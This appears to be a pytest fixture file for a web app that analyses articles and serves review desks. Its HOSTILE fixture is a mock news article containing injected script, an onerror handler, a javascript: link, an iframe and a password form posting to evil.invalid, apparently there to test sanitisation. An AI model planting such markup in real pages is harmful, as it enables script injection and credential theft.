"""A small study of invented people, and desks over copies of it: in this process for the gate, as a process for the browser."""

from __future__ import annotations

import re
import shutil
import subprocess
import sys
from collections.abc import Callable, Iterator
from pathlib import Path
from typing import Any

import pytest
from desk_signs import HOST, PASSWORD
from starlette.testclient import TestClient

from testimonia.api import Study
from testimonia.web.accounts import Accounts
from testimonia.web.app import app
from testimonia.web.house import House
from testimonia.web.office import Office
from testimonia.web.rights import Role

sys.path.append(str(Path(__file__).parents[2] / "tools"))  # load_study: a study's rows in another database

HOSTILE = """<html><head><title>Former guard Yusuf Haddad says why he left Islamic State</title>
<script>window.evil = 1; document.title = 'evil'</script><style>body{display:none}</style></head><body><article>
<h1>Former guard Yusuf Haddad says why he left Islamic State</h1>
<p>GAZIANTEP, 3 March 2015. Yusuf Haddad, 24, a Syrian who fought for Islamic State in Raqqa, left the group in January and spoke to us. \U0001f4f8 e\u0301</p>
<p>"I left because they killed Muslims who had done nothing," Haddad said. "I saw them flog an old man. It was corrupt from the top to the bottom."</p>
<p>Haddad said he had joined in 2013 to defend the Sunnis against Assad. <img src="http://tracker.invalid/x.png" onerror="window.evil=2"></p>
<form action="http://evil.invalid/"><input name="password"><button>Log in</button></form>
<a href="javascript:window.evil=3">more</a><iframe src="http://evil.invalid/"></iframe></article></body></html>"""


@pytest.fixture(scope="session")
def made(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """A study that was run, with an account for each role, named after it ("sealed-*" may not see names); tests work on copies."""
    home = tmp_path_factory.mktemp("desk")
    sources = home / "articles"
    sources.mkdir()
    demo = Path(__file__).parents[2] / "src" / "testimonia" / "data" / "demo" / "articles"
    for path in sorted(p for p in demo.iterdir() if p.suffix in (".html", ".txt"))[:7]:
        shutil.copy(path, sources)
    (sources / "hostile.html").write_text(HOSTILE, encoding="utf-8")
    study = home / "study"
    with Study.init(study) as held:
        held.run([sources])
    accounts = Accounts(study)
    accounts.put("admin", "admin", names=True, password=PASSWORD)
    for role in Role:
        accounts.put(role.value, role.value, names=True, password=PASSWORD)
        accounts.put(f"sealed-{role.value}", role.value, password=PASSWORD)
    return study


@pytest.fixture
def study(made: Path, tmp_path: Path) -> Path:
    return Path(shutil.copytree(made, tmp_path / "study"))


@pytest.fixture
def team(study: Path) -> Iterator[House]:
    """A team's desk."""
    office = Office(study)
    try:
        yield House(office, hosts=frozenset({"127.0.0.1"}), accounts=Accounts(study))
    finally:
        office.close()


@pytest.fixture
def sign_in(team: House) -> Callable[..., TestClient]:
    """A browser in which somebody has signed in; its `csrf` goes with every form."""

    def signed(name: str | None) -> TestClient:
        client = TestClient(app(team), base_url=HOST, follow_redirects=False)
        client.csrf = ""  # type: ignore[attr-defined]
        if name is not None:
            account = team.accounts.all()[name]  # type: ignore[union-attr]
            session = team.sessions.begin(name, account.role, names=account.names)
            client.cookies.set(team.cookie, session.id)
            client.csrf = session.csrf  # type: ignore[attr-defined]
        return client

    return signed


@pytest.fixture
def desk() -> Iterator[Callable[..., Any]]:
    """Starts `testimonia review` (or serve) as a process; gives it and its address."""
    running: list[subprocess.Popen[str]] = []

    def start(study: Path, command: str = "review", *more: str) -> tuple[subprocess.Popen[str], str]:
        args = [
            sys.executable,
            "-m",
            "testimonia.cli",
            command,
            str(study),
            "--port",
            "0",
            *(["--no-browser"] if command == "review" else []),
            *more,
        ]
        process = subprocess.Popen(args, stdout=subprocess.PIPE, text=True)
        running.append(process)
        address = process.stdout.readline().strip()  # type: ignore[union-attr]
        assert re.match(r"http://127\.0\.0\.1:\d+/", address), address
        return process, address

    yield start
    for process in running:
        process.kill()
        process.wait()
